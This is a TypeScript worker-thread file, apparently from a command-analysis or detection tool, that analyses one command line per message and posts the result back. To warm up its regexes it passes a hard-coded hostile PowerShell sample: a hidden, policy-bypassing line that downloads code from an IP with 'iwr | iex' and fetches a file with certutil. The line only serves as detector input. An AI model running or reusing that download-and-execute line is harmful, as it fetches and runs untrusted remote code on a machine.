/**
 * The worker thread's side of worker-command-analyzer.ts: analyses one command line per message.
 * Loaded from TypeScript through tsx's require hook (see the analyzer's WORKER_BOOT).
 */
import { workerData, type MessagePort } from 'node:worker_threads';
import { analyzeCommand } from '../../domain/command-analysis';

export interface AnalysisRequest {
  id: number;
  commandLine: string;
}

export type AnalysisReply = { id: number; ok: true; analysis: ReturnType<typeof analyzeCommand> } | { id: number; ok: false; error: string };

/** Replies go on their own port, so the analyzer can look for one synchronously when its timer fires. */
const port = (workerData as { replies?: MessagePort } | undefined)?.replies;
if (port) {
  // Compile the regexes and warm the code before saying ready: the first real analysis is then timed like any other.
  analyzeCommand('powershell -nop -w hidden -ep bypass -enc SQBFAFgA -c "iwr http://203.0.113.45/x | iex; certutil -urlcache -f http://a.example.com/x"');
  port.on('message', (request: AnalysisRequest) => {
    let reply: AnalysisReply;
    try {
      reply = { id: request.id, ok: true, analysis: analyzeCommand(request.commandLine) };
    } catch (err) {
      reply = { id: request.id, ok: false, error: err instanceof Error ? err.message : String(err) };
    }
    port.postMessage(reply);
  });
  port.postMessage('ready');
}
